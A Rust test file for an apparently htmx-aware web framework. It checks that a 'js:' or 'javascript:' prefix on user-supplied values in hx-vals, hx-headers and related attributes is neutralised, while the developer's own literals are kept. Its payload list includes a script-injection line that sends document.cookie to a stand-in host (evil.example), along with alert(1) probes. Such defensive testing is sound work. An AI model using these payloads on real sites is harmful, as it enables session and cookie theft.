//! Script in `hx-vals` / `hx-headers`: htmx evaluates a value that starts with `js:` or
//! `javascript:` as JavaScript when the element sends its request, so a value that came from a
//! user (a stored preference, a query parameter) and lands in these attributes is script
//! injection even though it is escaped as HTML. ft treats run-time values there like URLs:
//! a script prefix is replaced by `{}` (no values); literals written in the source stay as
//! written. FastHTML renders such a value as it is.

use crate::common::client;
use ft_web::prelude::*;

/// The pattern under attack: a user's value carried along with a button's request.
#[get("/")]
fn page(v: String) -> Ft {
    Div!(
        Button!("vals", id = "vals", hx_post = "/save", hx_vals = v.clone()),
        Button!(
            "headers",
            id = "headers",
            hx_post = "/save",
            hx_headers = v.clone()
        ),
        Button!(
            "data",
            id = "data",
            hx_post = "/save",
            data_hx_vals = v.clone()
        ),
        Button!(
            "request",
            id = "request",
            hx_post = "/save",
            hx_request = v.clone()
        ),
        upper(&v),
        Button!(
            "literal",
            id = "literal",
            hx_post = "/save",
            hx_vals = "js:{n: 1 + 1}"
        ),
        Button!("json", id = "json", hx_post = "/save", hx_vals = v)
    )
}

/// An element built at run time with upper-case attribute names (browsers lower-case them).
fn upper(v: &str) -> Ft {
    let mut el = A!("upper", id = "upper");
    if let Ft::Element(e) = &mut el {
        e.put(
            "HX-VALS".into(),
            Some(ft_web::AttrValue::Text(v.to_owned().into())),
        );
        let url = format!("javascript:alert({})", v.len());
        e.put("HREF".into(), Some(ft_web::AttrValue::Text(url.into())));
    }
    el
}

/// The value of `name` on the element with `id` in `html`.
fn attr(html: &str, id: &str, name: &str) -> String {
    let el = html
        .split('<')
        .find(|el| el.contains(&format!(" id=\"{id}\"")))
        .unwrap_or_else(|| panic!("#{id} in {html}"));
    let start = el
        .find(&format!(" {name}="))
        .unwrap_or_else(|| panic!("{name} on #{id}: {el}"));
    let rest = &el[start + name.len() + 2..];
    let quote = &rest[..1];
    rest[1..].split(quote).next().unwrap_or_default().to_owned()
}

#[ft_web::test]
async fn hx_vals_run_time_script_prefix_is_neutralised() {
    let c = client(fast_app().routes(routes![page])).await;
    for payload in [
        "js:fetch('//evil.example/?c='+document.cookie)",
        "javascript:alert(1)",
        "  JS:alert(1)",
        "\u{feff}\tjavascript:alert(1)",
    ] {
        let r = c.get("/").query("v", payload).send().await;
        assert_eq!(r.status(), 200);
        let html = r.text();
        for (id, name) in [
            ("vals", "hx-vals"),
            ("headers", "hx-headers"),
            ("data", "data-hx-vals"),
            ("request", "hx-request"),
            ("upper", "HX-VALS"),
        ] {
            assert_eq!(attr(&html, id, name), "{}", "{payload:?} in {name}: {html}");
        }
        assert!(
            !html.contains("alert(") && !html.contains("evil.example"),
            "{html}"
        );
        // The developer's own literal is theirs to write.
        assert_eq!(attr(&html, "literal", "hx-vals"), "js:{n: 1 + 1}");
    }
    // Ordinary run-time JSON is kept, whatever it holds.
    let json = r#"{"note": "js: is fine inside a value", "n": 1}"#;
    let html = c.get("/").query("v", json).send().await.text();
    assert_eq!(attr(&html, "json", "hx-vals"), json, "{html}");
}
